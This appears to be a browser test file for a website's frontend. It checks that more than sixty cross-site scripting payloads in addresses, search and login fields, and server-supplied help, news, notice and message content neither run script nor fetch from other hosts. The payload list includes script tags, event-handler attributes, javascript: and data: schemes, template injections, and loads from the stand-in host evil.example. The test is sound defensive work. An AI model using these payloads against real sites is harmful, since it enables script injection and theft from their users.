/**
 * Proves that hostile text in addresses, fields and all that the operator writes runs nothing and loads nothing. No policy of the page
 * protects it here.
 */
import { XSS_CORPUS } from '@baize/contract/testing/xss-corpus.ts'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import { page, userEvent } from 'vitest/browser'
import { idOf } from '../testing/catalogue.ts'
import { answers, refused } from '../testing/fake-server.ts'
import { field, loginDialog, logIn } from '../testing/identity.ts'
import { expectCount, goWithin, main } from '../testing/looking.ts'
import { openSite } from '../testing/open-site.ts'
import { NO_ANNOUNCEMENTS } from '../testing/prepared.ts'
import { recordedAnswer } from '../testing/recorded.ts'
import { prepareWholeSite } from '../testing/whole-site.ts'

const RUN = 'window.__ran=1'
/** Markup, attributes, schemes and templates that have run somewhere; each would leave a mark on the window or open a dialog. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script>`,
  `<script/src=data:,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN}//`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"/>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<iframe src="javascript:parent.__ran=1">`,
  `<iframe onload=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}>`,
  `<audio src onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x`,
  `<math><mtext><script>${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<div style="background:url(javascript:${RUN})">`,
  `<x onclick=${RUN} autofocus tabindex=1>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}//`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
]

type Marks = { __ran?: number; hits?: number; hit?: () => void }
const marks = globalThis as unknown as Marks
const opened: unknown[] = []

/** Everything that was asked of another place than the site's. */
const away = (): string[] =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => /^(https?|wss?):/.test(name) && new URL(name).host !== location.host)

beforeEach(() => {
  performance.clearResourceTimings()
  performance.setResourceTimingBufferSize(5000)
  opened.length = 0
  Object.assign(marks, { hits: 0, hit: () => (marks.hits = 1) })
  for (const act of ['alert', 'confirm', 'prompt', 'open'] as const)
    vi.spyOn(globalThis, act).mockImplementation(((...given: unknown[]) => opened.push(given)) as never)
})
afterEach(() => void vi.restoreAllMocks())

const drawn = (): Promise<unknown> => new Promise((done) => requestAnimationFrame(done))
const text = encodeURIComponent

test('hostile text in addresses and fields is shown as text: nothing runs, nothing opens, nothing is fetched elsewhere', async () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  prepareWholeSite()
  answers('login', refused('wrong-credentials'))
  answers('gameList', { games: [], pageNum: 1, totalPages: 0, total: 0 })
  await openSite('/rng')
  await expect.element(page.getByRole('searchbox')).toBeVisible()
  for (const addressOf of [
    (payload: string) => `/rng?search=${text(payload.slice(0, 60))}&sort=${text(payload)}#${text(payload)}`,
    (payload: string) => `/login?to=${text(payload)}`,
    (payload: string) => `/no-such-page/${text(payload)}#${text(payload)}`,
    (payload: string) => `/help#${text(payload)}`,
  ])
    for (const payload of PAYLOADS) {
      goWithin(addressOf(payload))
      await drawn()
    }
  // What is typed comes back on the screen.
  await openSite('/rng')
  for (const payload of PAYLOADS.slice(0, 20)) await page.getByRole('searchbox').fill(payload.slice(0, 60))
  await openSite('/login')
  await expect.element(field(loginDialog(), 'Username')).toBeVisible()
  await logIn(PAYLOADS[15]?.slice(0, 60), PAYLOADS[0])
  await expect.element(loginDialog().getByRole('alert')).toBeVisible()
  expect([marks.__ran, opened, away()]).toEqual([undefined, [], []])
})

const LAST = XSS_CORPUS.length - 1
/** Behind the attack stands a word by which it is known that all of it was shown. */
const attack = (index: number): string => `${XSS_CORPUS[index]}<p>after ${index}.</p>`
const ALL = XSS_CORPUS.map((_, index) => `<div>${attack(index)}</div>`).join('')
const AT = '2026-11-01T00:00:00Z'
const entries = <Entry extends object>(like: Entry) =>
  XSS_CORPUS.map((_, index) => ({ ...like, id: idOf(1000 + index), anchor: `x${index}`, title: `Attack ${index}`, content: attack(index) }))

/** What stands in the page of all that was tried: nothing ran, and only harmless markup is left. */
async function expectInert(where: string): Promise<void> {
  const shown = (): Element[] => [...document.querySelectorAll('.content-html')]
  await expect.poll(() => shown().some(({ textContent }) => textContent.includes(`after ${LAST}.`)), { message: where }).toBe(true)
  const inside = (selector: string): Element[] => shown().flatMap((each) => [...each.querySelectorAll(selector)])
  const forbidden = 'script, style, svg, math, iframe, object, embed, form, input, button, video, audio, link, meta, base, template'
  expect([marks.hits, inside(forbidden)], where).toEqual([0, []])
  const handlers = inside('*').filter((node) => [...node.attributes].some(({ name }) => /^(on|style$|id$|name$|srcset$)/.test(name)))
  expect(handlers, where).toEqual([])
  for (const link of inside('a[href]')) expect(link.getAttribute('href'), where).toMatch(/^(https:\/\/|\/(?![/\\])|#)/)
}

test('hostile markup in any field of words runs nothing and loads nothing: help, pages, news, notices, windows, promotions, messages', async () => {
  prepareWholeSite()
  const shown = { announcementImages: [], period: null, execution: 'B' as const, at: AT, until: null }
  const words = { slug: 'about', title: 'Words', lead: '', sections: entries({}) }
  answers('helpCenter', { ...recordedAnswer('helpCenter'), sections: words.sections })
  answers('contentPage', words)
  for (const name of ['notices', 'homeNotice'] as const) answers(name, entries({ at: AT }))
  answers('listMessages', { content: entries({ at: AT, read: true }), pageNum: 1, totalPages: 1, total: XSS_CORPUS.length, unread: 0 })
  answers('listAnnouncements', ({ query: { types } }) => ({
    ...NO_ANNOUNCEMENTS,
    player: types.includes('PL') ? entries({ ...shown, type: 'PL' as const }) : [],
    promotion: types === 'PR' ? entries({ ...shown, type: 'PR' as const }) : [],
    popup: types === 'PU' ? [{ ...shown, id: idOf(999), type: 'PU', title: 'A window', content: ALL }] : [],
  }))
  await openSite('/help', { member: true, prepared: true })
  await expect.element(page.getByRole('dialog').getByRole('heading', { name: 'A window' })).toBeVisible()
  await expectInert('a window')
  await userEvent.keyboard('{Escape}')
  await expect.element(page.getByRole('heading', { name: `Attack ${LAST}`, exact: true })).toBeVisible()
  await expectInert('help')
  for (const at of ['/help/about', '/news', '/promotions']) {
    goWithin(at)
    await expect.element(main().getByRole('heading', { name: at === '/help/about' ? 'Words' : /.+/, level: 1 })).toBeVisible()
    await expectInert(at)
  }
  goWithin('/news')
  await page.getByRole('region', { name: 'Notices' }).getByRole('button').first().click()
  await expect
    .poll(() => page.getByRole('dialog', { name: 'Notices' }).query()?.querySelectorAll('.content-html').length)
    .toBe(XSS_CORPUS.length)
  await expectInert('notices')
  await userEvent.keyboard('{Escape}')
  goWithin('/member/messageV2')
  await expectCount(
    main()
      .getByRole('listitem')
      .filter({ hasText: /^.*Attack \d/ }),
    XSS_CORPUS.length,
  )
  await expectInert('messages')
  expect([opened, away()]).toEqual([[], []])
})
